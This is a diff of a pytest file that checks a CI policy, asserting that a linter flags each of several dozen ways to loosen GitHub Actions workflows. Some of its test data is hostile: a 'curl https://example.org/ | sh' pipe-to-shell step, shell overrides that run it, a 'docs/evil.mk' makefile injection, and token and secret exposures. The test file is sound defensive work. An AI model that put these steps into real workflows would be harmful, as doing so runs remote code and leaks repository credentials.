@@ -1,14 +1,14 @@
 """The workflows: what they must never lose, what their steps do, and what their own linters say."""
 
-import copy
 import json
 import os
 import re
 import shutil
 import subprocess
 import sys
-from collections.abc import Callable
+from fnmatch import fnmatch
 from pathlib import Path
+from typing import Any
 
 import pytest
 from policy import Workflow, loosened
@@ -24,141 +24,112 @@ def parsed() -> dict[str, Workflow]:
     return {path.name: YAML(typ="safe").load(path) for path in sorted(FOLDER.glob("*.y*ml"))}
 
 
-def targets() -> set[str]:
-    """The targets of the Makefile."""
-    return set(re.findall(r"^([a-z]+):", (ROOT / "Makefile").read_text(encoding="utf-8"), re.MULTILINE))
-
-
 def test_policy_holds():
     """The workflows as they are committed are as tight as they are meant to be."""
-    assert loosened(parsed(), targets()) == []
+    assert loosened(parsed()) == []
 
 
-def job(workflows: dict[str, Workflow], file: str, key: str) -> Workflow:
-    return workflows[file]["jobs"][key]
+GONE = "gone"
+MAIN = "github.ref == 'refs/heads/main'"
+TOKEN = "${{ github.token }}"
+PIPE = "curl https://example.org/ | sh"
+SHA = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
+CACHE = {"uses": f"actions/cache@{SHA}", "with": {"path": ".venv", "key": "venv"}}
+SCRIPT = {"uses": f"actions/github-script@{SHA}", "with": {"script": "console.log(1)"}}
+# What is set, or is GONE, and where: the file and the keys down to it; + adds to a list.
+LOOSER = {
+    "pull requests with rights": ("check.yml on pull_request_target", None),
+    "pull requests published": ("publish.yml on pull_request", None),
+    "published after another workflow": ("publish.yml on workflow_run", {"workflows": ["check"]}),
+    "published from any branch": ("publish.yml on push branches 0", "**"),
+    "executed from any branch": ("publish.yml jobs execute if", "needs.plan.outputs.posts != '[]'"),
+    "main or something else": ("publish.yml jobs audit if", f"{MAIN} || github.actor == 'someone'"),
+    "no reviewers": ("publish.yml jobs execute environment", GONE),
+    "posts may write": ("publish.yml jobs execute permissions contents", "write"),
+    "strangers may write": ("check.yml jobs test permissions", "write-all"),
+    "rights at the top": ("check.yml permissions", {"contents": "read"}),
+    "rights by default": ("publish.yml permissions", GONE),
+    "tag for a commit": ("check.yml jobs test steps 0 uses", "actions/checkout@v6"),
+    "action of a stranger": ("publish.yml jobs build steps +", {"uses": f"someone/else@{SHA}"}),
+    "token left behind": ("publish.yml jobs execute steps 0 with persist-credentials", GONE),
+    "head of a fork": ("publish.yml jobs execute steps 0 with ref", "${{ github.head_ref }}"),
+    "artifacts of a stranger": ("publish.yml jobs build steps 2 with run-id", "1"),
+    "secret for posts": ("publish.yml jobs execute env SECRET", "${{ secrets.SECRET }}"),
+    "token for posts": ("publish.yml jobs execute steps 2 env", {"GH_TOKEN": TOKEN}),
+    "token in a job's env": ("publish.yml jobs execute env GH_TOKEN", TOKEN),
+    "token in the workflow's env": ("publish.yml env GH_TOKEN", TOKEN),
+    "token by index": ("check.yml jobs test steps 3 env", {"GH_TOKEN": "${{ github['token'] }}"}),
+    "token among all else": ("publish.yml jobs execute env CONTEXT", "${{ toJSON(github) }}"),
+    "token in a name": ("publish.yml jobs execute steps 2 name", TOKEN),
+    "writer runs posts": ("publish.yml jobs propose steps +", {"run": "make execute"}),
+    "writer runs a script": ("publish.yml jobs propose steps +", SCRIPT),
+    "shell of a step": ("check.yml jobs test steps 3 shell", f"bash -c '{PIPE}' {{0}}"),
+    "shell of a job": ("publish.yml jobs execute defaults", {"run": {"shell": f"bash -c '{PIPE}' {{0}}"}}),
+    "makefile before ours": ("publish.yml jobs build env MAKEFILES", "docs/evil.mk"),
+    "cache for the GPU": ("publish.yml jobs execute steps +", CACHE),
+    "strangers on the GPU": ("check.yml jobs test runs-on", "${{ vars.GPU_RUNNER }}"),
+    "no timeout": ("publish.yml jobs execute timeout-minutes", GONE),
+    "hours": ("publish.yml jobs execute timeout-minutes", 360),
+    "no concurrency": ("publish.yml concurrency", GONE),
+    "deployed after a failure": ("publish.yml jobs deploy if", f"always() && {MAIN}"),
+    "deployed without waiting": ("publish.yml jobs deploy needs", GONE),
+    "no make target": ("check.yml jobs test steps +", {"run": PIPE}),
+    "errors ignored": ("check.yml jobs test steps 3 continue-on-error", True),
+    "tests switched off": ("check.yml jobs test if", "false"),
+    "tests left out": ("check.yml jobs test steps 3", GONE),
+    "runs of pull requests not verified": ("check.yml jobs verify", GONE),
+    "runs not verified weekly": ("publish.yml jobs verify", GONE),
+    "stale posts released": ("publish.yml jobs build steps 4 run", "make build"),
+    "no schedule": ("publish.yml on schedule", []),
+    "paths left out": ("check.yml on pull_request paths 0", GONE),
+    "paths taken back": ("check.yml on pull_request paths +", "!blog_code/**"),
+    "a third workflow": ("more.yml", {"on": "push", "jobs": {}}),
+}
 
 
-def pull_request_target(w):
-    w["check.yml"]["on"] = {"pull_request_target": w["check.yml"]["on"]["pull_request"]}
+def loosen(workflows: dict[str, Workflow], keys: list[str], value: object):
+    """Set what is under the keys, add it, or remove what is there."""
+    inside: Any = workflows
+    for key in keys[:-1]:
+        inside = inside[int(key) if isinstance(inside, list) else key]
+    last = int(keys[-1]) if keys[-1].isdigit() else keys[-1]
+    if last == "+":
+        inside.append(value)
+    elif value == GONE:
+        del inside[last]
+    else:
+        inside[last] = value
 
 
-def publish_on_pull_requests(w):
-    w["publish.yml"]["on"]["pull_request"] = w["publish.yml"]["on"]["push"]
+@pytest.mark.parametrize(("place", "value"), LOOSER.values(), ids=LOOSER)
+def test_policy_notices(place: str, value: object):
+    """Each way to loosen a workflow is noticed, there and nowhere else."""
+    workflows, keys = parsed(), place.split()
+    loosen(workflows, keys, value)
+    found = loosened(workflows)
+
+    assert found and all(line.startswith(" ".join(keys[:-1])) for line in found)
 
 
-def publish_after_another_workflow(w):
-    w["publish.yml"]["on"]["workflow_run"] = {"workflows": ["check"]}
+def test_writer_installs_nothing(tmp_path: Path):
+    """What runs beside the right to write is two scripts of ours: no package, and no post, is in reach."""
+    done = subprocess.run(
+        ["make", "--dry-run", f"BIN={tmp_path}", "accept", "propose"],
+        cwd=ROOT, capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+
+    assert done.stdout.split() == [".github/accept.sh", ".github/propose.sh"]
 
 
-def publish_any_branch(w):
-    w["publish.yml"]["on"]["push"]["branches"] = ["**"]
+@pytest.mark.parametrize("file", ["check.yml", "publish.yml"])
+def test_filters_name_what_is_there(file: str):
+    """Each path that starts a workflow exists, and all that pages quote and environments are made of does."""
+    [paths] = [event["paths"] for event in parsed()[file]["on"].values() if event and "paths" in event]
+    quoted = re.findall(r"^ +- ((?:docs|benchmarks)/\S+)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)
 
-
-def execute_from_any_branch(w):
-    job(w, "publish.yml", "execute")["if"] = "needs.plan.outputs.posts != '[]'"
-
-
-def main_or_something_else(w):
-    job(w, "publish.yml", "execute")["if"] += " || github.actor == 'someone'"
-
-
-def no_reviewers(w):
-    del job(w, "publish.yml", "execute")["environment"]
-
-
-def execute_may_write(w):
-    job(w, "publish.yml", "execute")["permissions"] = {"contents": "write"}
-
-
-def check_may_write(w):
-    job(w, "check.yml", "test")["permissions"] = "write-all"
-
-
-def rights_at_the_top(w):
-    w["check.yml"]["permissions"] = {"contents": "read"}
-
-
-def no_rights_at_the_top(w):
-    del w["publish.yml"]["permissions"]
-
-
-def tag_for_a_commit(w):
-    job(w, "check.yml", "test")["steps"][0]["uses"] = "actions/checkout@v6"
-
-
-def action_of_a_stranger(w):
-    steps = job(w, "publish.yml", "build")["steps"]
-    steps.append({"uses": "someone/else@de0fac2e4500dabe0009e67214ff5f5447ce83dd"})
-
-
-def token_left_behind(w):
-    del job(w, "publish.yml", "execute")["steps"][0]["with"]["persist-credentials"]
-
-
-def head_of_a_fork(w):
-    job(w, "publish.yml", "execute")["steps"][0]["with"]["ref"] = "${{ github.event.pull_request.head.sha }}"
-
-
-def secret_for_posts(w):
-    job(w, "publish.yml", "execute")["env"]["TOKEN"] = "${{ secrets.TOKEN }}"
-
-
-def token_for_posts(w):
-    job(w, "publish.yml", "execute")["steps"][2]["env"] = {"GH_TOKEN": "${{ github.token }}"}
-
-
-def writer_runs_posts(w):
-    job(w, "publish.yml", "propose")["steps"].append({"run": "make execute"})
-
-
-def check_on_the_gpu(w):
-    job(w, "check.yml", "test")["runs-on"] = "${{ vars.GPU_RUNNER }}"
-
-
-def no_timeout(w):
-    del job(w, "publish.yml", "execute")["timeout-minutes"]
-
-
-def no_concurrency(w):
-    del w["publish.yml"]["concurrency"]
-
-
-def deploy_after_failure(w):
-    job(w, "publish.yml", "deploy")["if"] = "always() && github.ref == 'refs/heads/main'"
-
-
-def not_a_target(w):
-    job(w, "check.yml", "test")["steps"].append({"run": "curl https://example.org/ | sh"})
-
-
-def errors_ignored(w):
-    job(w, "check.yml", "test")["steps"][-1]["continue-on-error"] = True
-
-
-def paths_left_out(w):
-    w["check.yml"]["on"]["pull_request"]["paths"].remove("requirements*.lock")
-
-
-def a_third_workflow(w):
-    w["more.yml"] = copy.deepcopy(w["publish.yml"])
-
-
-LOOSER = [
-    pull_request_target, publish_on_pull_requests, publish_after_another_workflow, publish_any_branch,
-    execute_from_any_branch, main_or_something_else, no_reviewers, execute_may_write, check_may_write,
-    rights_at_the_top, no_rights_at_the_top, tag_for_a_commit, action_of_a_stranger, token_left_behind,
-    head_of_a_fork, secret_for_posts, token_for_posts, writer_runs_posts, check_on_the_gpu, no_timeout,
-    no_concurrency, deploy_after_failure, not_a_target, errors_ignored, paths_left_out, a_third_workflow,
-]  # fmt: skip
-
-
-@pytest.mark.parametrize("loosen", LOOSER, ids=lambda loosen: loosen.__name__)
-def test_policy_notices(loosen: Callable[[dict[str, Workflow]], None]):
-    """Each way to loosen a workflow is noticed."""
-    workflows = parsed()
-    loosen(workflows)
-
-    assert loosened(workflows, targets())
+    assert [path for path in paths if not list(ROOT.glob(path))] == []
+    for name in [*quoted, ".python-version", "requirements-gpu.lock", f".github/workflows/{file}"]:
+        assert any(fnmatch(name, path) for path in paths), name
 
 
 def test_versions_stand_beside_commits():
@@ -311,11 +282,11 @@ def made(tmp_path: Path, *arguments: str, **environment: str) -> str:
     """What the commands of a target would have been called with, by tools that only say so."""
     for name in ("blog", "python"):
         tool = tmp_path / name
-        tool.write_text(f'#!/bin/sh\necho {name} "$@" "SITE_URL=$SITE_URL" >&2\n')
+        addresses = '"SITE_URL=$SITE_URL" "REPOSITORY_URL=$REPOSITORY_URL"'
+        tool.write_text(f'#!/bin/sh\necho {name} "$@" {addresses} >&2\n')
         tool.chmod(0o755)
-    inherited = {
-        key: value for key, value in os.environ.items() if key not in {"SITE_URL", "GITHUB_REPOSITORY"}
-    }
+    ours = {"SITE_URL", "REPOSITORY_URL", "GITHUB_REPOSITORY", "GITHUB_SERVER_URL"}
+    inherited = {key: value for key, value in os.environ.items() if key not in ours}
     done = subprocess.run(
         ["make", "--silent", "--assume-old=.venv/ready", f"BIN={tmp_path}", *arguments],
         cwd=ROOT, env=inherited | environment, capture_output=True, text=True, timeout=60,
@@ -336,7 +307,30 @@ def made(tmp_path: Path, *arguments: str, **environment: str) -> str:
 )
 def test_release_knows_the_address_of_the_site(tmp_path: Path, environment: dict[str, str], address: str):
     """The site is built for publication under the address it will have, and refuses stale posts."""
-    assert made(tmp_path, "release", **environment).strip() == f"blog build --release SITE_URL={address}"
+    assert made(tmp_path, "release", **environment).startswith(f"blog build --release SITE_URL={address} ")
+
+
+@pytest.mark.parametrize("target", ["build", "release"])
+@pytest.mark.parametrize(
+    ("environment", "address"),
+    [
+        ({"GITHUB_REPOSITORY": "someone/posts"}, "https://github.com/someone/posts"),
+        (
+            {"GITHUB_REPOSITORY": "someone/posts", "GITHUB_SERVER_URL": "https://git.example"},
+            "https://git.example/someone/posts",
+        ),
+        (
+            {"GITHUB_REPOSITORY": "someone/posts", "REPOSITORY_URL": "https://code.example/posts"},
+            "https://code.example/posts",
+        ),
+        ({}, ""),
+    ],
+)
+def test_pages_know_the_address_of_the_repository(
+    tmp_path: Path, target: str, environment: dict[str, str], address: str
+):
+    """The site and its preview link to the repository that GitHub builds them from; elsewhere to none."""
+    assert made(tmp_path, target, **environment).endswith(f" REPOSITORY_URL={address}\n")
 
 
 def test_execute_takes_one_post(tmp_path: Path):
